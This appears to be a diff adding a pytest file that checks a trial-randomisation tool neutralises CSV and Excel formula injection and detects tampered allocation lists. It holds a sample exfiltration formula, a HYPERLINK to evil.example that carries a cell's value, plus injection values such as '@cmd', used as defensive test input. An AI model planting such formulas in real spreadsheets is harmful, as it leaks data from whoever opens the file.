@@ -1,0 +1,69 @@
+"""Formula injection (OWASP CSV injection): every list bitframe writes keeps ids as text, and
+its readers give the original ids back, so lists still verify."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bitframe.cli import main
+from bitframe.spreadsheet import neutralise_cell, neutralise_frame, restore_cell, restore_frame
+
+SMS = Path(__file__).resolve().parents[1] / "protocols" / "sms-link-worker.yaml"
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2, "Click")'
+
+
+@given(st.text())
+def test_neutralising_is_reversible_and_never_starts_a_formula(value):
+    safe = neutralise_cell(value)
+    assert restore_cell(safe) == value
+    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_frames_neutralise_text_only():
+    frame = pd.DataFrame({"id": ["=1+1", "'quoted", "@SUM(A1)", "plain"], "n": [-1, 2, 3, 4],
+                          "arm": pd.Categorical(["-x", "a", "a", "-x"])})
+    safe = neutralise_frame(frame)
+    assert safe["id"].tolist() == ["'=1+1", "''quoted", "'@SUM(A1)", "plain"]
+    assert safe["n"].tolist() == [-1, 2, 3, 4]  # numbers are numbers
+    assert safe["arm"].tolist() == ["'-x", "a", "a", "'-x"]
+    pd.testing.assert_frame_equal(restore_frame(safe), frame)
+
+
+def test_hyperlink_id_stays_text_in_csv_and_xlsx_and_verifies(tmp_path, capsys):
+    people = tmp_path / "people.csv"
+    with people.open("w", newline="", encoding="utf-8") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(["participant_id", "practice"])
+        writer.writerows([[HYPERLINK, "Elm Road"], ["+44 20", "Elm Road"], ["@cmd", "Hill Surgery"], ["P-4", "Riverside"]])
+    out = tmp_path / "list.csv"
+    assert main(["randomise", str(SMS), "-p", str(people), "-o", str(out), "--xlsx"]) == 0, capsys.readouterr()
+    with out.open(newline="", encoding="utf-8") as fh:
+        ids = [row[0] for row in csv.reader(fh)][1:]
+    assert ids == ["'" + HYPERLINK, "'+44 20", "'@cmd", "P-4"]
+    book = openpyxl.load_workbook(tmp_path / "list.xlsx")
+    cells = [cell for row in book["allocation"].iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f" or (isinstance(c.value, str) and c.value[:1] == "=")]
+    assert book["allocation"]["A2"].value == "'" + HYPERLINK
+    assert main(["verify", str(SMS), "-p", str(people), "--list", str(out)]) == 0, capsys.readouterr()
+
+
+def test_the_excel_copy_verifies_and_a_changed_cell_is_found(tmp_path, capsys):
+    people = tmp_path / "people.csv"
+    people.write_text("participant_id,practice\n=1+1,Elm Road\nP-2,Elm Road\nP-3,Riverside\n", encoding="utf-8")
+    out = tmp_path / "list.csv"
+    assert main(["randomise", str(SMS), "-p", str(people), "-o", str(out), "--xlsx"]) == 0
+    capsys.readouterr()
+    assert main(["verify", str(SMS), "-p", str(people), "--list", str(tmp_path / "list.xlsx")]) == 0, capsys.readouterr()
+    book = openpyxl.load_workbook(tmp_path / "list.xlsx")
+    sheet = book["allocation"]
+    sheet["B2"] = "control" if sheet["B2"].value != "control" else "letter"
+    book.save(tmp_path / "list.xlsx")
+    assert main(["verify", str(SMS), "-p", str(people), "--list", str(tmp_path / "list.xlsx")]) == 1
+    out_text = capsys.readouterr().out
+    assert "list_sha256" in out_text and "NOT verified" in out_text
